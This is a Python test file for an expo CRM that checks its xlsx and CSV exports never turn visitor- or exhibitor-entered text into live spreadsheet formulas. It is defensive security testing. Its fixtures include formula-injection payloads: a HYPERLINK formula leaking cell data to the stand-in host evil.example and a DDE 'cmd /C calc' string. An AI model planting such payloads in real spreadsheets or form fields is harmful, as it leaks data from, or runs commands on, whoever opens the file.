"""Issue 13, finding 1: what an anonymous visitor or an exhibitor typed never becomes a live
formula in any export, .xlsx or CSV; the text itself is kept (as text)."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from expo_crm.documents.excel import FORMULA_PREFIXES
from expo_crm.visitors import exports
from expo_crm.visitors import services as visitors
from tests.factories import (
    PASSWORD,
    create_company,
    create_contract,
    create_portal_user,
    create_registration,
    create_show,
    create_staff,
    create_task_for,
)
from tests.helpers import login, post_form

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE_VALUES = [HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def formula_cells(content: bytes) -> list[str]:
    """Every cell of every sheet that a spreadsheet would compute."""
    book = load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def texts(content: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(content))
    return {str(c.value) for s in book.worksheets for row in s.iter_rows() for c in row}


def _is_number(field: str) -> bool:
    try:
        float(field)
    except ValueError:
        return False
    return True


def live_csv_fields(text: str) -> list[str]:
    return [
        field
        for row in csv.reader(io.StringIO(text))
        for field in row
        if field.startswith(FORMULA_PREFIXES) and not _is_number(field)
    ]


def test_the_writer_stores_formula_like_text_as_text_in_xlsx_and_csv():
    from expo_crm.documents.excel import csv_text, xlsx_bytes

    rows = [[value, 5, -3] for value in HOSTILE_VALUES]
    content = xlsx_bytes(["text", "n", "m"], rows)
    assert formula_cells(content) == []
    sheet = load_workbook(io.BytesIO(content)).active
    # (XML keeps no bare carriage return: it reads back as a line feed)
    assert [sheet.cell(row=r, column=1).value for r in range(2, 8)] == [
        v.replace("\r", "\n") for v in HOSTILE_VALUES
    ]
    assert sheet["B2"].value == 5 and sheet["C2"].value == -3  # numbers stay numbers
    assert sheet["A2"].quotePrefix  # Excel keeps it text even when the cell is edited
    text = csv_text(["text", "n", "m"], rows)
    assert live_csv_fields(text) == []
    assert [r[0] for r in csv.reader(io.StringIO(text))][1:] == ["'" + v for v in HOSTILE_VALUES]
    assert [r[2] for r in csv.reader(io.StringIO(text))][1:] == ["-3"] * 6


def _hostile_world(client):
    """A visitor and a company named with a formula, a lead of that visitor, a task."""
    show = create_show()
    registration, _code = create_registration(
        show, name=HOSTILE, company="@SUM(1+1)*cmd|' /C calc'!A0", job_title="-1+1"
    )
    contract = create_contract(create_company(HOSTILE, "+HYPERLINK(1)"), show, signed=True)
    lead = visitors.register(
        contract.show,
        email="lead@buyer.example",
        details={"name": HOSTILE, "company": "=1+1"},
        terms_accepted=True,
        share_contact=True,
        check_open=False,
        send_email=False,
    )
    lead_code = visitors.badge_code(lead.registration.active_badge)
    staff = create_staff("admin")
    create_task_for(staff, HOSTILE)
    portal_user = create_portal_user(contract.company)
    response = post_form(
        client, "/portal/login", {"email": portal_user.email, "password": PASSWORD}
    )
    assert response.status_code == 302
    post_form(client, "/portal/leads", {"code": lead_code, "rating": "4", "note": "=2*2"})
    leads = client.get(f"/portal/leads.xlsx?show={contract.show_id}")
    return show, staff, leads


def test_no_export_holds_a_formula_cell(app, client):
    show, staff, leads = _hostile_world(client)
    assert leads.status_code == 200
    staff_client = app.test_client()
    login(staff_client, staff.email, PASSWORD)
    downloads = {
        "leads": leads.data,
        "registrations": post_form(
            staff_client, f"/visitors/shows/{show.id}/registrations.xlsx", {}, page="/dashboard"
        ).data,
        "exhibitors": staff_client.get("/exhibitors/export.xlsx").data,
        "tasks": staff_client.get("/tasks?owner=&export=xlsx").data,
        "import template": staff_client.get("/exhibitors/import/template.xlsx").data,
        "badges.xlsx": exports.badges_xlsx(show),
    }
    for name, content in downloads.items():
        assert formula_cells(content) == [], name
    # The text is there, unchanged, for people to read.
    assert HOSTILE in texts(downloads["registrations"])
    assert HOSTILE in texts(downloads["exhibitors"])
    assert HOSTILE in texts(downloads["leads"])
    assert HOSTILE in texts(downloads["tasks"])


def test_the_badge_csv_for_print_vendors_has_no_live_formula(app, tmp_path):
    from expo_crm.cli import cli

    show = create_show()
    create_registration(show, name=HOSTILE, company="+86 cmd", job_title="@x")
    output = tmp_path / "badges.csv"
    result = app.test_cli_runner().invoke(
        cli, ["export", "badges", "--show", str(show.id), "-o", str(output)]
    )
    assert result.exit_code == 0, result.output
    text = output.read_text(encoding="utf-8")
    assert live_csv_fields(text) == []
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["name"] == "'" + HOSTILE and row["company"] == "'+86 cmd"
